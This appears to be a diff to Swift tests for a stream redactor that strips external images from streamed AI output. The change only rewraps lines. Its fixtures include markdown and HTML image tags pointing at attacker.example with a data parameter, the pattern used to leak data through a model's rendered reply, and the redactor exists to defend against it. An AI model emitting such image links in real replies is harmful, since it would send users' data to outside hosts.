@@ -96,17 +96,21 @@ import Testing
         let texts = [
             ("Sure. ![a chart of the quarterly revenue figures by region and by product line](https://attacker.example/c.png?d=\(data)) Done.",
              "Sure. [EXTERNAL_IMAGE] Done."),
-            ("Sure. <img alt=\"a chart of the quarterly revenue figures by region and product\" src=\"https://attacker.example/c.png?d=\(data)\"> Done.",
+            ("Sure. <img alt=\"a chart of the quarterly revenue figures by region and product\" "
+                + "src=\"https://attacker.example/c.png?d=\(data)\"> Done.",
              "Sure. [EXTERNAL_IMAGE] Done."),
-            ("Sure.\n\n![a chart of the quarterly revenue][r]\n\n[r]: https://attacker.example/c.png?d=\(data)", "Sure.\n\n![a chart of the quarterly revenue][r]\n\n[EXTERNAL_IMAGE]"),
+            ("Sure.\n\n![a chart of the quarterly revenue][r]\n\n[r]: https://attacker.example/c.png?d=\(data)",
+             "Sure.\n\n![a chart of the quarterly revenue][r]\n\n[EXTERNAL_IMAGE]"),
             // An image from a listed host whose title opens another: cut inside it, a stream would read that one
             // afresh, and take in as its alt text the image after it.
             (#"A ![a](https://cdn.example.com/1.png "![b") then ![](https://attacker.example/?d=\#(data)) ](https://cdn.example.com/2.png) end"#,
              #"A ![a](https://cdn.example.com/1.png "![b") then [EXTERNAL_IMAGE] ](https://cdn.example.com/2.png) end"#),
-            ("Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x", "Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x"),
+            ("Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x",
+             "Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x"),
         ]
         for (text, expected) in texts {
-            var redactor = StreamRedactor(detectors: .standard, options: Self.options(["cdn.example.com"]), holdBack: 16, releaseStep: 4) { _ in true }
+            let options = Self.options(["cdn.example.com"])
+            var redactor = StreamRedactor(detectors: .standard, options: options, holdBack: 16, releaseStep: 4) { _ in true }
             let scalars = Array(text.unicodeScalars)
             var sent: [String] = []
             for start in stride(from: 0, to: scalars.count, by: pieceLength) {
@@ -124,9 +128,9 @@ import Testing
     /// what redacting the whole text gives.
     @Test(arguments: [1, 2, 3, 4])
     func randomMarkupStreamsAsItReadsWhole(seed: UInt64) {
-        let pieces = ["![", "](", ")", "[", "]", "]: ", "https://attacker.example/x?d=1", "https://cdn.example.com/a.png", "<img src=", "<img", "\"", "'",
-                      ">", " ", "\n", "\n\n", "word", "!", "<", "(", "//", "\\", ":", "<", "srcset=", "a.png 1x,", "\\", "`", "``", "<b>",
-                      "<span title=\"]\">"]
+        let pieces = ["![", "](", ")", "[", "]", "]: ", "https://attacker.example/x?d=1", "https://cdn.example.com/a.png", "<img src=", "<img",
+                      "\"", "'", ">", " ", "\n", "\n\n", "word", "!", "<", "(", "//", "\\", ":", "<", "srcset=", "a.png 1x,", "\\", "`", "``",
+                      "<b>", "<span title=\"]\">"]
         var random = Seeded(seed)
         for _ in 0..<300 {
             let text = (0..<random.next(40)).map { _ in pieces[random.next(pieces.count)] }.joined()
